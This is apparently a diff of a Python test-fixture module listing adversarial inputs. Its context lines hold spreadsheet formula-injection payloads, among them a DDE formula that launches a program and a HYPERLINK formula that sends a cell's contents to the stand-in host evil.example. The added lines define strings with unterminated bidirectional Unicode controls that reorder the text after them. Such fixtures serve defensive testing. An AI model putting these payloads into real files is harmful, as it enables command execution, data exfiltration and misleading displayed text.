@@ -130,3 +130,8 @@ FORMULAS = (
     "=cmd|' /C calc'!A0", "=HYPERLINK(\"https://evil.example?\"&A1)", "\0=1+1", "\ufeff=1+1",
 )  # fmt: skip
 """What a spreadsheet would reckon, or run."""
+
+TURNING = tuple(
+    f"甲{first}乙{last}丙" for first, last in ("\u202e\u202d", "\u2067\u2068", "\u202b\u202a", "\u200f\u061c")
+)
+"""Texts that turn about whatever follows them on a line, for none of them ends what it begins."""
